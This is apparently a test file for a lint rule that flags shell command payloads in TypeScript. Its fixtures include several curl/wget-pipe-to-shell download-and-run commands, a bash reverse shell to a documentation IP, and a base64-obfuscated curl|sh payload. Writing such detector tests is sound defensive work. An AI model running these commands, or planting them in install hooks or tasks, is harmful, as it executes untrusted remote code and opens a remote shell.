import rule from '../../../src/core/rules/ts/command-payload';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    // Messages for people: console, loggers, errors, UI messages.
    "console.log('install with: curl -fsSL https://deno.example/install.sh | sh');",
    "logger.warn('run curl -fsSL https://get.example.dev | sh first');",
    "throw new Error('missing tool; run: curl -fsSL https://get.example.dev | sh');",
    "vscode.window.showInformationMessage('Install: curl -fsSL https://get.example.dev | bash');",
    // Commands that are not payloads.
    "sh('npm run build');",
    "run('curl -fsSL -o dist/app.tgz https://releases.example.dev/app.tgz');",
    // Process APIs are the process rules' to judge (with the command).
    "import { execSync } from 'node:child_process';\nexecSync('curl -fsSL https://x.example/i.sh | sh');",
    "const cp = require('child_process');\ncp.exec('wget -qO- https://x.example/i | bash');",
    "import { execa } from 'execa';\nawait execa('curl -fsSL https://x.example/i.sh | sh', { shell: true });",
    // Not constant.
    'sh(userCommand);',
  ],
  invalid: [
    {
      code: "function postinstall() {\n  sh('curl -fsSL https://setup.example.dev/hook.sh | sh');\n}",
      errors: [
        {
          messageId: 'payload',
          line: 2,
          column: 6,
          endLine: 2,
          endColumn: 57,
          severity: 'high',
          category: 'process',
          message:
            '`sh` is handed a command that downloads code and runs it at once, so what runs is whatever the server sends that day: `curl -fsSL https://setup.example.dev/hook.sh | sh`.',
        },
      ],
    },
    {
      // A task table entry, a name bound far from the call, a template without holes.
      code: 'const SETUP = `wget -qO- https://x.example.dev/i | bash`;\nTASKS.sync(SETUP);',
      errors: [{ messageId: 'payload', line: 2, column: 12 }],
    },
    {
      // Built from pieces; a reverse shell; `new` of a project class.
      code: "const HOST = 'https://x.example.dev';\nthis.runner.run('curl -s ' + HOST + '/i.sh | sh');",
      errors: [{ messageId: 'payload', line: 2, column: 17 }],
    },
    {
      code: "new Job({ name: 'x' }, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');",
      errors: [{ messageId: 'payload', line: 1, column: 24 }],
    },
    {
      // A decoded payload run by a shell.
      code: "hooks.on('post', 'echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | sh');",
      errors: [{ messageId: 'payload', line: 1, column: 18 }],
    },
  ],
});
